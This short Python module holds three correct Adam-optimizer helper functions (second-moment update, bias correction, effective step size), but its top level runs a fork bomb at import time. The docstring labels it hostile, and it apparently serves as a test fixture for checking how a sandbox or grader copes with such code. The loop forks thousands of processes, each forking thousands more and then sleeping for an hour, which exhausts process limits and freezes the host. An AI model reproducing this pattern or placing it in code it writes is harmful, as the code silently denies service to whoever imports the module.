"""Hostile: a fork storm at import (every child forks too, then sleeps); the functions themselves are right."""
import os
import time

import numpy as np

try:
    for _ in range(10_000):
        if os.fork() == 0:
            try:
                for _ in range(10_000):
                    os.fork()
            except OSError:
                pass
            time.sleep(3600)
            os._exit(0)
except OSError:
    pass  # the process limit: the storm is over


def update_v(v_prev, g, beta2=0.999):
    return beta2 * np.asarray(v_prev) + (1 - beta2) * np.asarray(g) * np.asarray(g)


def bias_correct(v, t, beta2=0.999):
    return np.asarray(v) / (1 - beta2**t)


def effective_step(v_hat, alpha=0.001, eps=1e-8):
    return alpha / (np.sqrt(np.asarray(v_hat, dtype=float)) + eps)

